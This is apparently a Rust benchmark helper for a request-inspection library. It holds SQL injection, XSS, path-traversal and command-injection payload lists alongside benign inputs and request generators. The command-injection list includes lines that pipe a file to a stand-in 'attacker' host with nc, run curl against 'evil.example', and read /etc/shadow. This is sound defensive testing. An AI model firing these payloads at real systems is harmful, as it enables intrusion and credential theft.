//! Test data generators for benchmarks.
//!
//! Provides attack payload corpora for each baseline rule, benign
//! payloads for false-positive measurement, and request/client
//! generators for throughput runs.

use rampart::InspectionRequest;
use rand::Rng;

// ---------------------------------------------------------------------------
// Payload corpora
// ---------------------------------------------------------------------------

/// Known SQL injection test payloads.
pub fn sqli_payloads() -> Vec<String> {
    vec![
        "' OR '1'='1".into(),
        "' UNION SELECT * FROM passwords--".into(),
        "1' OR '1'='1' /*".into(),
        "' UNION SELECT username,password FROM users--".into(),
        "1 AND 1=1 UNION ALL SELECT table_name FROM information_schema.tables WHERE 2>1--".into(),
        "select id from accounts where owner = ''".into(),
    ]
}

/// Known XSS test payloads.
pub fn xss_payloads() -> Vec<String> {
    vec![
        "<script>alert('xss')</script>".into(),
        "<img src=x onerror=alert(1)>".into(),
        "<svg onload=alert(1)>".into(),
        "javascript:alert(document.cookie)".into(),
        "\"><script>alert(String.fromCharCode(88,83,83))</script>".into(),
    ]
}

/// Known path traversal payloads.
pub fn path_traversal_payloads() -> Vec<String> {
    vec![
        "../../../etc/passwd".into(),
        "..\\..\\..\\windows\\system32\\config\\sam".into(),
        "....//....//....//etc/passwd".into(),
        "/var/www/../../etc/shadow".into(),
    ]
}

/// Known command injection payloads.
pub fn command_injection_payloads() -> Vec<String> {
    vec![
        "host=127.0.0.1; cat /etc/shadow".into(),
        "file=log.txt | nc attacker 4444".into(),
        "name=`id`".into(),
        "q=$(curl evil.example)".into(),
    ]
}

/// Benign payloads that pass every baseline rule, for false-positive
/// and allowed-path measurement.
pub fn benign_payloads() -> Vec<String> {
    vec![
        "Hello, world!".into(),
        "The quick brown fox jumps over the lazy dog".into(),
        "{\"name\": \"John\", \"age\": 30}".into(),
        "O'Brien's restaurant serves great food".into(),
        "path/to/my/file.txt".into(),
        "user@example.com".into(),
    ]
}

// ---------------------------------------------------------------------------
// Request and client generators
// ---------------------------------------------------------------------------

/// A realistic clean POST request with typical headers.
pub fn clean_request() -> InspectionRequest {
    InspectionRequest::new("POST", "/api/v1/orders")
        .with_header("Host", "shop.example.com")
        .with_header("Content-Type", "application/json")
        .with_header("Accept", "application/json")
        .with_body("{\"sku\": \"A-1042\", \"quantity\": 2}")
}

/// A request carrying the given body payload.
pub fn request_with_body(body: &str) -> InspectionRequest {
    InspectionRequest::new("POST", "/api/v1/search")
        .with_header("Host", "shop.example.com")
        .with_body(body)
}

/// A request with `header_count` synthetic headers, for signature
/// composition scaling.
pub fn request_with_headers(header_count: usize) -> InspectionRequest {
    let mut request = InspectionRequest::new("GET", "/api/v1/profile");
    for i in 0..header_count {
        request = request.with_header(format!("X-Custom-{i}"), format!("value-{i}"));
    }
    request
}

/// Generate random IPv4 client identities.
pub fn random_clients(count: usize) -> Vec<String> {
    let mut rng = rand::rng();
    (0..count)
        .map(|_| {
            format!(
                "{}.{}.{}.{}",
                rng.random_range(1u8..=254),
                rng.random_range(0u8..=255),
                rng.random_range(0u8..=255),
                rng.random_range(1u8..=254),
            )
        })
        .collect()
}
